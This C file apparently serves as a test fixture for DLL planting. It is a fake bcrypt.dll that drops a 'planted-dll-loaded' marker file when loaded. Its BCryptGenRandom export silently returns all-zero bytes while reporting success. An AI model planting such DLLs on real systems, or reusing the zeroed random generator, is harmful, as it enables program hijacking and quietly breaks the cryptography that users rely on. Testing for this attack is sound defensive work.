// A bcrypt.dll as an attacker plants it beside a program: loaded, it leaves the file
// "planted-dll-loaded" in the current directory. It exports what the programs call, so
// that a program it reaches goes on as if nothing happened.
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved) {
    (void)instance;
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) {
        HANDLE mark = CreateFileA("planted-dll-loaded", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
        if (mark != INVALID_HANDLE_VALUE) CloseHandle(mark);
    }
    return TRUE;
}

__declspec(dllexport) LONG WINAPI BCryptGenRandom(void* algorithm, unsigned char* buffer, ULONG size, ULONG flags) {
    (void)algorithm;
    (void)flags;
    for (ULONG i = 0; i < size; ++i) buffer[i] = 0;
    return 0;
}
